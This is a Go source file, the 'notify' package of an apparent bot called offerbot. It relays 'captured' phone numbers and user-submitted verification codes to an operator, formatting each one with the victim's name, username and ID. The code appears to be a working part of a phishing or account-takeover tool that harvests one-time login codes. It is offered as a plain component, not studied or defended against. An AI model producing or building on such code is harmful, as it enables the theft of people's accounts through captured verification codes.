// Package notify forwards captured phone numbers and submitted codes to an
// operator. Delivery is best effort: callers log failures and move on.
package notify

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"strings"

	"github.com/m3rciful/offerbot/core/logger"
)

// ErrDelivery wraps every failure to hand an event to the operator sink.
var ErrDelivery = errors.New("notify: delivery failed")

// Kind names what the user just submitted.
type Kind string

const (
	KindPhoneCaptured Kind = "phone_captured"
	KindCodeSubmitted Kind = "code_submitted"
)

// Event is a single operator notification.
type Event struct {
	Kind      Kind
	UserID    int64
	FirstName string
	Username  string
	Phone     string
	Code      string
}

// Notifier delivers events to an operator.
type Notifier interface {
	Notify(ctx context.Context, ev Event) error
}

// Func adapts a function to Notifier.
type Func func(ctx context.Context, ev Event) error

// Notify calls f.
func (f Func) Notify(ctx context.Context, ev Event) error { return f(ctx, ev) }

// Format renders ev as the plain text sent to the operator.
func Format(ev Event) string {
	handle := "no username"
	if u := strings.TrimPrefix(strings.TrimSpace(ev.Username), "@"); u != "" {
		handle = "@" + u
	}
	from := fmt.Sprintf("%s (%s, id %d)", strings.TrimSpace(ev.FirstName), handle, ev.UserID)

	switch ev.Kind {
	case KindCodeSubmitted:
		return fmt.Sprintf("Verification code from user:\n%s\nPhone: %s\nFrom: %s", ev.Code, ev.Phone, from)
	default:
		return fmt.Sprintf("New phone number for activation:\n%s\nFrom: %s", ev.Phone, from)
	}
}

// Log writes events to the notify component logger only.
type Log struct{}

// Notify never fails.
func (Log) Notify(ctx context.Context, ev Event) error {
	logger.LogEvent(ctx, logger.Notify, slog.LevelInfo, "notify.logged",
		slog.String("kind", string(ev.Kind)),
		slog.Int64("user_id", ev.UserID),
	)
	return nil
}

// Multi fans an event out to every notifier and joins their errors.
type Multi []Notifier

// Notify delivers to all notifiers even when some fail.
func (m Multi) Notify(ctx context.Context, ev Event) error {
	var errs []error
	for _, n := range m {
		if n == nil {
			continue
		}
		if err := n.Notify(ctx, ev); err != nil {
			errs = append(errs, err)
		}
	}
	return errors.Join(errs...)
}
